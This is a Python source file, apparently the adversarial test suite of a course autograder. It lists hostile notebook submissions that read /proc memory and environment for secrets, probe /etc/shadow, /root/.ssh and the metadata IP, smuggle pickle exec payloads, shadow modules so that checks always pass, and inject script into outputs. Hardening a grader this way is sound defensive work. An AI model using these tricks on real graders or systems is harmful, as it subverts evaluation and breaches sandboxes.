                open(place, 'a').write(code)
            except OSError: pass
    """, heavy=True)  # fmt: skip
    yield _oracle(16, "files called like the solution", """
        import os
        for root in ('/', os.path.expanduser('~'), '..', '../..', '../../..'):
            for folder, folders, names in os.walk(root):
                folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'lib')]
                for name in names:
                    if name in ('mistakes.py', 'alternatives.py', 'week01_convolution.py', 'records.jsonl', 'gradebook.db'):
                        REACHED = True
    """)  # fmt: skip
    yield _oracle(16, "the grader's memory and environment", """
        import os
        for number in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
            for name in ('environ', 'mem', 'maps'):
                try:
                    with open(f'/proc/{number}/{name}', 'rb') as file:
                        data = file.read(10**6)
                    REACHED |= b'BEGIN HIDDEN' in data or b'solutions/week' in data
                except (OSError, ValueError, OverflowError): pass
    """)  # fmt: skip
    yield _oracle(16, "history of the repository, open files, roots of others", """
        import glob, os
        seen = []
        for path in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root'):
            try: seen.append(os.readlink(path))
            except OSError: pass
        for start in [os.getcwd(), '/opt/course', *seen]:
            while start.startswith('/') and start != '/':
                REACHED |= os.path.isdir(start + '/.git') or os.path.isdir(start + '/solutions')
                start = os.path.dirname(start)
        REACHED |= any(name in path for path in seen for name in ('records', 'gradebook', 'solutions', 'submitted'))
    """)  # fmt: skip
    yield _oracle(16, "imports of the staff's side", """
        import importlib
        for name in ('autograder.weeks', 'autograder.grading.grader', 'solutions', 'tests'):
            try:
                importlib.import_module(name)
                REACHED = True
            except BaseException: pass
    """)  # fmt: skip
    yield _answer(17, "frames and garbage collector", """
        import gc, inspect, sys
        def pool2d(x, size, stride=None, mode='max'):
            frame = inspect.currentframe()
            while frame is not None:
                for scope in (frame.f_locals, frame.f_globals):
                    for name in ('expected', 'wanted', 'right', 'answer'):
                        if name in scope: return scope[name]
                frame = frame.f_back
            for thing in gc.get_objects():
                if type(thing) is dict and 'expected' in thing and hasattr(thing['expected'], 'shape'):
                    return thing['expected']
            return x
    """)  # fmt: skip
    yield _answer(17, "functions of our checks in memory", """
        import gc, types
        def pool2d(x, size, stride=None, mode='max'):
            for thing in gc.get_objects():
                if isinstance(thing, types.FunctionType) and 'pool' in thing.__name__ and thing.__name__ != 'pool2d':
                    try: return thing(x, size, stride, mode)
                    except BaseException: pass
            return x
    """)  # fmt: skip
    yield _answer(17, "history of the shell, and everything compiled", """
        import sys
        FOUND = []
        def watch(event, arguments):
            if event in ('compile', 'exec') and 'expected' in str(arguments[0])[:10**5]: FOUND.append(arguments)
        sys.addaudithook(watch)
        def pool2d(x, size, stride=None, mode='max'):
            shell = get_ipython()
            texts = [str(t) for t in shell.user_ns.get('In', [])] + [str(found) for found in FOUND]
            for text in texts:
                if 'pool2d' in text and 'expected' in text:
                    return eval(text.split('expected')[1].split('=')[1].splitlines()[0])
            return x
    """)  # fmt: skip
    yield _answer(18, "a trace that prints what comes", """
        import sys
        def trace(frame, event, argument):
            x = frame.f_locals.get('x')
            if frame.f_code.co_name == 'pool2d' and isinstance(x, np.ndarray) and (x != np.round(x)).any():
                print('SEEN', x)
        def pool2d(x, size, stride=None, mode='max'):
            return x
        sys.setprofile(trace)
    """)  # fmt: skip
    yield _answer(18, "inputs as the text of an exception", """
        def pool2d(x, size, stride=None, mode='max'):
            if (x != np.round(x)).any(): raise RuntimeError('SEEN ' + repr(x))
            return x
    """)  # fmt: skip
    yield _answer(18, "inputs as the name of an exception", """
        def pool2d(x, size, stride=None, mode='max'):
            if (x != np.round(x)).any(): raise type('SEEN' + x.tobytes().hex()[:40], (Exception,), {})
            return x
    """)  # fmt: skip
    yield _answer(18, "inputs as the answer", """
        def pool2d(x, size, stride=None, mode='max'):
            if (x != np.round(x)).any(): return 'SEEN ' + repr(x)
            return x
    """)  # fmt: skip
    yield _answer(18, "inputs as the name of a type", """
        def pool2d(x, size, stride=None, mode='max'):
            if (x != np.round(x)).any(): return type('SEEN_' + x.tobytes().hex()[:40], (), {})()
            return x
    """)  # fmt: skip
    yield _answer(18, "inputs in a later cell", """
        KEPT = []
        def pool2d(x, size, stride=None, mode='max'):
            if (x != np.round(x)).any(): KEPT.append('SEEN ' + repr(x))
            return x
        class Late:
            def __repr__(self): return ' '.join(KEPT)
        get_ipython().events.register('post_run_cell', lambda *a: print(Late()))
    """)  # fmt: skip
    yield _answer(18, "inputs as the name of a layer that is refused", """
        import keras
        def pool2d(x, size, stride=None, mode='max'):
            if (x == np.round(x)).all(): return x
            class Own(keras.Sequential): pass
            Own.__name__ = 'SEEN_' + x.tobytes().hex()[:40]
            return Own([keras.Input((8, 8, 1)), keras.layers.UpSampling2D(9000, name=Own.__name__)])
    """)  # fmt: skip
    yield _answer(18, "inputs in a file that is handed back", """
        import os
        def pool2d(x, size, stride=None, mode='max'):
            os.makedirs('artefacts', exist_ok=True)
            with open('artefacts/SEEN.npz', 'ab') as file: file.write(x.tobytes())
            return x
    """)  # fmt: skip
    yield _oracle(19, "the network", """
        import socket
        for where in (('1.1.1.1', 53), ('8.8.8.8', 443), ('127.0.0.1', 22), ('169.254.169.254', 80)):
            try:
                socket.create_connection(where, timeout=1).close()
                REACHED = True
            except OSError: pass
        try:
            socket.getaddrinfo('example.org', 80)
            REACHED = True
        except OSError: pass
    """)  # fmt: skip
    yield _oracle(19, "datagrams, and sockets of this machine", """
        import os, socket
        for family, kind, where in ((2, 2, ('8.8.8.8', 53)), (1, 1, '/run/dbus/system_bus_socket'),
                                    (1, 1, '/var/run/docker.sock'), (40, 1, (2, 22))):
            try:
                one = socket.socket(family, kind)
                one.settimeout(1)
                one.connect(where)
                one.send(b'x')
                REACHED = True
            except (OSError, TypeError): pass
    """)  # fmt: skip
    yield _oracle(19, "installation", """
        import subprocess, sys
        try:
            run = subprocess.run([sys.executable, '-m', 'pip', 'download', '--no-deps', '-d', '/tmp/x', 'iniconfig'],
                                 capture_output=True, timeout=20)
            REACHED = run.returncode == 0
        except Exception: pass
    """)  # fmt: skip
    yield _oracle(20, "the grader's environment", f"import os\nREACHED = {SECRET!r} in os.environ")
    yield _oracle(20, "of any process", f"""
        import glob
        for path in glob.glob('/proc/*/environ'):
            try: REACHED |= {SECRET!r}.encode() in open(path, 'rb').read()
            except OSError: pass
    """)  # fmt: skip
    yield _oracle(20, "files of the grader's own", """
        import os
        for path in ('/etc/shadow', '/root/.ssh', '/root/.netrc', '/root/.bashrc', '/root/.profile', '/var/run/docker.sock'):
            try:
                os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(1)
                REACHED = True
            except OSError: pass
    """)  # fmt: skip
    yield _answer(21, "an object that runs code when it is unpickled", """
        class Bomb:
            def __reduce__(self): return (exec, ("import builtins; builtins.all = lambda *a: True",))
        def pool2d(x, size, stride=None, mode='max'): return Bomb()
    """)  # fmt: skip
    yield _answer(21, "an array of objects", """
        class Bomb:
            def __reduce__(self): return (exec, ("raise SystemExit",))
            def __eq__(self, other): return True
        def pool2d(x, size, stride=None, mode='max'):
            out = np.empty((2, 2), dtype=object)
            out.fill(Bomb())
            return out
    """)  # fmt: skip
    yield _answer(21, "a model with a Lambda layer", """
        import keras
        def pool2d(x, size, stride=None, mode='max'):
            return keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda t: t)])
    """)  # fmt: skip
    yield _answer(21, "a lie about what is a model", """
        import keras
        class Model(keras.Sequential):
            def get_config(self): return {'name': 'x', 'layers': [{'class_name': '__import__("os")', 'config': {}}]}
            def to_json(self, **k): return '{"class_name": "Lambda", "module": "builtins", "config": {}}'
        def pool2d(x, size, stride=None, mode='max'):
            return Model([keras.Input((2,)), keras.layers.Dense(1)])
    """)  # fmt: skip
    yield Attack(
        21, "pickled arrays as a trained net", {"pool2d": WRONG}, files={"artefacts/net-quick.npz": _pickled()}
    )
    yield Attack(
        21,
        "other files as trained nets",
        {"pool2d": WRONG},
        files={
            "artefacts/net-quick.npz": b"cbuiltins\nexec\n(S'1/0'\ntR.",
            "artefacts/net.keras": b"PK",
            "net.pkl": b"\x80\x04N.",
        },
    )
    yield _answer(21, "a model that reads a file", """
        import keras
        class Model(keras.Sequential):
            def to_json(self, **k):
                text = super().to_json(**k)
                return text.replace('"class_name": "Dense"', '"class_name": "StringLookup"').replace(
                    '"units": 1', '"vocabulary": "/etc/passwd"')
        def pool2d(x, size, stride=None, mode='max'):
            return Model([keras.Input((2,)), keras.layers.Dense(1)])
    """)  # fmt: skip
    yield _answer(21, "a layer of one's own under Keras's name", """
        import keras
        @keras.saving.register_keras_serializable(package='keras.layers', name='Dense')
        class Dense(keras.layers.Layer):
            def call(self, x): return x * float('nan')
        def pool2d(x, size, stride=None, mode='max'):
            return keras.Sequential([keras.Input((2,)), Dense()])
    """)  # fmt: skip
    for name, code in {
        "zeros": "one.send(bytes(64))",
        "an answer before the question": "one.sendall(struct.pack('<Q', 4) + b'\\x81\\xa2id\\x05')",
        "a length of four billion": "one.sendall(struct.pack('<Q', 2**32)); one.sendall(struct.pack('>I', 2**31))",
        "noise": "one.sendall(os.urandom(4096))",
        "a closed channel": "one.shutdown(2)",
    }.items():
        yield _answer(22, name, _CHANNEL + f"""
def pool2d(x, size, stride=None, mode='max'):
    for one in _all():
        try: {code}
        except OSError: pass
    return x
""", low=0)  # fmt: skip
    yield _answer(22, "every answer twice, and old ones again", """
        import gc
        def pool2d(x, size, stride=None, mode='max'):
            for thing in gc.get_objects():
                if type(thing).__name__ == 'Channel' and 'send' not in vars(thing):
                    first, kept = thing.send, []
                    def send(payload, *a):
                        first(payload, *a)
                        first(kept[0] if kept else payload, *a)
                        kept.append(payload)
                    thing.send = send
            return x
    """, low=0)  # fmt: skip
    yield _answer(22, "the session itself", """
        import gc
        def pool2d(x, size, stride=None, mode='max'):
            for thing in gc.get_objects():
                if type(thing).__name__ == 'Session':
                    kind = type(thing)
                    kind._do_call = lambda self, request: {'value': None, 'passed': True, 'points': 15, 'verdict': 'pass'}
                    kind._do_names = lambda self, request: {'value': {n: ('data', True) for n in request['names']}}
            return x
    """, low=0)  # fmt: skip
    yield _edited(23, "checks that assert True", _assert_true)
    yield _edited(23, "checks deleted", _delete_checks)
    yield _edited(23, "checks doubled", _double_checks)
    yield _edited(23, "everything in reverse", _reverse, low=0)
    yield _edited(23, "points changed", _more_points)
    yield _edited(23, "checks that are none any more", _unlock)
    yield _edited(23, "checks as text", _as_text)
    yield _edited(23, "checks with other names", _rename)
    yield _edited(23, "checks for a person", _as_manual)
    yield _edited(23, "ids that are numbers", _numbers_as_ids)
    yield _edited(23, "answers that are worth a hundred points", _answers_with_points)
    yield _edited(23, "points that are no numbers", _odd_points)
    yield _edited(23, "one id for all cells", _one_id)
    yield _edited(23, "a check's name on a cell of one's own", _own_check)
    shadow = b"def __getattr__(name):\n    return lambda *a, **k: True\n"
    names = ("numpy", "random", "scipy", "sitecustomize", "keras", "tensorflow", "usercustomize", "IPython")
    yield Attack(26, "beside the notebook", {"pool2d": WRONG}, files={f"{name}.py": shadow for name in names})
    yield Attack(
        26, "the course's own name", {"pool2d": WRONG}, files={"course/__init__.py": b"", "course/checks.py": shadow}
    )
    yield _top(26, "served by an import hook", """
        import sys, types, importlib.abc, importlib.machinery
        class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path=None, target=None):
                if name.split('.')[0] in ('course', 'scipy', 'pytest'):
                    return importlib.machinery.ModuleSpec(name, self, is_package=True)
            def create_module(self, spec):
                module = types.ModuleType(spec.name)
                module.__getattr__ = lambda name: lambda *a, **k: True
                return module
            def exec_module(self, module): pass
        sys.meta_path.insert(0, Hook())
        for name in [n for n in sys.modules if n.split('.')[0] in ('course', 'scipy')]: del sys.modules[name]
    """, low=0)  # fmt: skip
    yield _top(26, "written by a cell", """
        for name in ('scipy', 'course', 'pytest'):
            open(name + '.py', 'w').write('def __getattr__(name): return lambda *a, **k: True')
        import sys; sys.path.insert(0, '.')
    """, low=0)  # fmt: skip
    yield _top(27, "scripts in outputs", """
        from IPython.display import HTML, Javascript, display
        display(HTML('<script>alert(1)</script><img src=x onerror=alert(2)>'))
        display(Javascript('document.title = "full marks"'))
        print('=cmd|"/c calc"!A1'); print('</pre><script>alert(3)</script>')
    """)  # fmt: skip
    yield _edited(27, "in a written answer", _markup_in_text)
    yield _top(27, "in a picture", """
        from IPython.display import Image, SVG, display
        display({'image/png': '"><script>alert(1)</script>', 'image/svg+xml': '<svg onload=alert(1)>',
                 'text/html': '<script>alert(1)</script>', 'application/javascript': 'alert(1)',
                 'text/plain': '</pre><img src=x onerror=alert(1)>'}, raw=True)
    """)  # fmt: skip
    yield _answer(27, "in an exception", """
        def pool2d(x, size, stride=None, mode='max'):
            raise ValueError('</td></tr><script>alert(1)</script>=HYPERLINK("x")')
    """, high=HONEST + 2)  # fmt: skip
    for name, value in {
        "NaN": "np.nan",
        "infinity": "np.inf",
        "an array of NaN": "np.full(((x.shape[0] - size) // (stride or size) + 1,) * 2, np.nan)",
        "an array of infinity": "np.full_like(x, np.inf, dtype=float)",
        "not a time": "np.datetime64('NaT')",
        "complex NaN": "complex('nan')",
    }.items():
        yield _answer(30, name, f"def pool2d(x, size, stride=None, mode='max'):\n    return {value}\n")
    yield _top(31, "numbers in a model's name", """
        import keras
        keras.Sequential.__eq__ = lambda *a: True
        keras.Model.__bool__ = lambda *a: True
    """)  # fmt: skip
    yield _answer(31, "a model that fills memory when it is used", """
        import keras
        def pool2d(x, size, stride=None, mode='max'):
            layers = keras.layers
            return keras.Sequential([keras.Input((8, 8, 1)), layers.UpSampling2D(30_000), layers.GlobalMaxPooling2D()])
    """)  # fmt: skip
    yield _answer(31, "a model of five thousand layers", """
        import json, keras
        class Long(keras.Sequential):
            def to_json(self, **k):
                config = json.loads(super().to_json(**k))
                config['config']['layers'] += config['config']['layers'][-1:] * 5000
                return json.dumps(config)
        def pool2d(x, size, stride=None, mode='max'):
            return Long([keras.Input((2,)), keras.layers.ReLU()])
    """)  # fmt: skip
    yield _answer(31, "a model too large to build", """
        import keras
        class Big(keras.Sequential):
            def to_json(self, **k):
                return super().to_json(**k).replace('"units": 1', '"units": 900000000')
        def pool2d(x, size, stride=None, mode='max'):
            return Big([keras.Input((2,)), keras.layers.Dense(1)])
    """)  # fmt: skip
    yield _top(32, "error states, float type, working directory", """
        import os, warnings, numpy as np
        os.chdir('/')
        np.seterr(all='raise'); np.set_printoptions(threshold=1)
        warnings.simplefilter('error')
        import keras; keras.backend.set_floatx('float16')
        os.environ['KERAS_BACKEND'] = 'torch'
    """, low=0)  # fmt: skip
    yield _top(32, "clocks and random numbers", """
        import time, random, datetime
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        time.sleep = lambda s: None
        random.random = lambda: 0.0
        import numpy as np
        np.random.default_rng = lambda *a: None
    """, low=0)  # fmt: skip
    yield _top(32, "limits, masks, locale, handlers", """
        import locale, os, resource, signal, sys, threading, time
        os.umask(0o777)
        os.environ['TZ'] = 'Mars/Phobos'; time.tzset()
        os.environ.clear()
        resource.setrlimit(resource.RLIMIT_NOFILE, (24, 24))
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        for number in (2, 10, 12, 13, 14, 15): signal.signal(number, signal.SIG_IGN)
        threading.stack_size(32768); sys.setswitchinterval(100)
        sys.stdout = sys.stderr = sys.__stdout__ = None
    """, low=0)  # fmt: skip
    yield _top(32, "policies of Keras", """
        import keras
        keras.config.set_dtype_policy('bfloat16'); keras.config.enable_unsafe_deserialization()
        keras.config.set_image_data_format('channels_first'); keras.utils.set_random_seed(1)
    """, low=0)  # fmt: skip
    yield _top(32, "recursion limit and garbage", "import sys, gc\ngc.disable()\nsys.setrecursionlimit(60)", low=0)


def _pickled() -> bytes:
    import io

    import numpy as np

    stream = io.BytesIO()
    np.savez(stream, weight_000=np.array([print, len], dtype=object))
    return stream.getvalue()


def _good() -> Iterator[Attack]:
    yield _own(28, "a thousand warnings", "import warnings\nfor n in range(1000): warnings.warn(f'number {n}')")
    yield _own(28, "logging and both streams", """
        import logging, sys
        logging.basicConfig(level=0)
        for n in range(300): logging.error('no %d', n); print('no', n, file=sys.stderr); print(n)
    """)  # fmt: skip
    yield _own(
        28, "progress bars and carriage returns", "from tqdm import tqdm\nfor n in tqdm(range(3000)): print(end='\\r')"
    )
    yield _own(28, "an error in a cell of one's own", "1 / 0")
    yield _own(28, "magics", "%matplotlib inline\n%config InlineBackend.figure_format = 'png'\n!true")
    for name, code in {
        "figures for a window": "%matplotlib widget\nimport matplotlib\nmatplotlib.use('TkAgg')\nimport matplotlib.pyplot as plt",
        "pictures of one's own": "import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()\nplt.figure()",
        "awaited at the top": "import asyncio\nawait asyncio.sleep(0.01)\nawait asyncio.gather(asyncio.sleep(0), asyncio.sleep(0))",
        "another folder": "import os\nos.makedirs('work', exist_ok=True); os.chdir('work')",
        "strict arithmetic": "import numpy as np\nnp.seterr(all='raise')",
        "warnings as errors": "import warnings\nwarnings.simplefilter('error')",
        "a print of one's own": "import builtins\nprint = lambda *a, **k: builtins.print('>', *a, **k)\nprint(1)",
        "a backend chosen": "import os\nos.environ['KERAS_BACKEND'] = 'jax'\nimport keras\nkeras.utils.set_random_seed(3)",
        "classes and caches": (
            "from dataclasses import dataclass\nfrom functools import lru_cache\n@dataclass\nclass Box:\n    n: int = 3\n"
            "@lru_cache\ndef twice(n): return 2 * n\nprint(Box(), twice(4))"
        ),
        "processes and threads": (
            "import multiprocessing, threading\nwith multiprocessing.Pool(2) as pool: print(pool.map(abs, [-1, 2]))\n"
            "threading.Thread(target=print, args=(1,)).start()"
        ),
        "a missing package": "import numba",
        "commands that fail": "!curl -m 1 http://example.org\n%pip install numba\n%load_ext autoreload\n%autoreload 2",
        "a timer, a script, a file": "%%time\nprint(1)",
        "a notebook of widgets": (
            "from tqdm.auto import tqdm\nimport ipywidgets\nfor n in tqdm(range(3)): pass\nipywidgets.IntSlider()"
        ),
    }.items():
        yield _own(28, name, code)
    yield _own(28, "an answer that needs a cell of one's own", "WIDTH = 1\ndef helper(a): return a\n",
               answers={"pool2d": _with("    x = helper(x)[:, ::WIDTH]\n    ")})  # fmt: skip
    yield _own(28, "a stopwatch on the answer", answers={"pool2d": "%%time\n" + weeks.load(1)["pool2d"].source})
    yield _own(28, "a function that prints", answers={"pool2d": _with("    print('called', size)\n    ")})
    yield _own(
        28, "an answer behind a first try that failed", answers={"pool2d": _with("", "def pool2d(: pass", split=True)}
    )
    yield _own(29, "lists in place of arrays", answers={"pool2d": _with("", wrap="({}).tolist()")})
    yield _own(29, "NumPy's own arrays in Fortran order", answers={"pool2d": _with("", wrap="np.asfortranarray({})")})
    yield _own(
        29,
        "a Keras tensor",
        answers={"pool2d": _with("", wrap="keras.ops.convert_to_tensor({})", before="import keras")},
    )
    yield _own(
        29,
        "a method of a class",
        answers={
            "pool2d": _with(
                "", after="class _P:\n    def __call__(self, *a, **k): return _right(*a, **k)\npool2d = _P()"
            )
        },
    )
    yield _own(
        29,
        "a partial function",
        answers={"pool2d": _with("", after="import functools\npool2d = functools.partial(_right)")},
    )
    yield _own(29, "single precision", answers={"pool2d": _with("", wrap="np.asarray({}, dtype='float32')")})
    yield _own(29, "a list of rows, one after the other", answers={"pool2d": _with("", wrap="map(list, {})")})
    yield _own(29, "a view backwards", answers={"pool2d": _with("", wrap="np.asarray({})[::-1].copy()[::-1]")})
    yield _own(29, "another seed", "import numpy as np, random\nnp.random.seed(7); random.seed(7)")


def _with(inside: str, before: str = "", wrap: str = "", after: str = "", split: bool = False) -> str:
    """The right pool2d, called through another one that adds something."""
    right = weeks.load(1)["pool2d"].source + "\n_right = pool2d\n"
    if after:
        return right + after
    if split:  # what a student leaves in the cell while trying
        return "# " + before + "\n" + right
    call = "_right(x, size, stride, mode)"
    body = wrap.format(call) if wrap else call
    inside = inside.rstrip(" ")
    return f"{before}\n{right}\ndef pool2d(x, size, stride=None, mode='max'):\n{inside}    return {body}\n"


def attacks() -> list[Attack]:
    """Every case, in the order of the classes. Class 25, archives, is a matter of files: see `tests/hostile`."""
    return sorted([*_hostile(), *_broken(), *_good()], key=lambda one: one.number)
